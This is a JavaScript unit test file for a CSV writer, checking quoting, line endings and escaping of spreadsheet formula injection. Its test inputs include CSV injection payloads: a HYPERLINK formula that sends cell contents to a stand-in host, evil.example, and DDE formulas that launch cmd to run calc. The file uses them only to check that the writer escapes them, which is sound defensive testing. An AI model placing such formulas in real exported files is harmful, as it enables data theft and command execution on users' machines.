import { toCsv } from './csv.js';

describe('toCsv', () => {
  it('writes a header and rows with CRLF, quoting only where needed', () => {
    expect(toCsv(['a', 'b'], [[1, 'plain'], [null, 'with, comma'], [2, 'say "hi"'], [3, 'two\nlines'], [4, ' padded']])).toBe(
      'a,b\r\n1,plain\r\n,"with, comma"\r\n2,"say ""hi"""\r\n3,"two\nlines"\r\n4," padded"\r\n',
    );
  });

  // OWASP's CSV injection guidance: a cell a spreadsheet would run as a formula is read as text.
  it.each([
    ['=', '=HYPERLINK("http://evil.example/?"&A1,"click")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'],
    ['+', '+1+cmd|\' /C calc\'!A0', '"\'+1+cmd|\' /C calc\'!A0"'],
    ['-', '-2+3+cmd|\' /C calc\'!A0', '"\'-2+3+cmd|\' /C calc\'!A0"'],
    ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0', '"\'@SUM(1+1)*cmd|\' /C calc\'!A0"'],
    ['tab', '\t=1+1', '"\'\t=1+1"'],
    ['carriage return', '\r=1+1', '"\'\r=1+1"'],
  ])('neutralises text beginning with %s: a quote in front, the cell quoted', (_, text, cell) => {
    expect(toCsv(['name', 'n'], [[text, 1]])).toBe(`name,n\r\n${cell},1\r\n`);
  });

  it('leaves numbers (also negative ones) and text with such characters further in as they are', () => {
    expect(toCsv(['a', 'b', 'c'], [[-3, 'a=b', 'llama3.2:latest']])).toBe('a,b,c\r\n-3,a=b,llama3.2:latest\r\n');
  });

  it('writes only the header for no rows', () => {
    expect(toCsv(['a', 'b'], [])).toBe('a,b\r\n');
  });
});
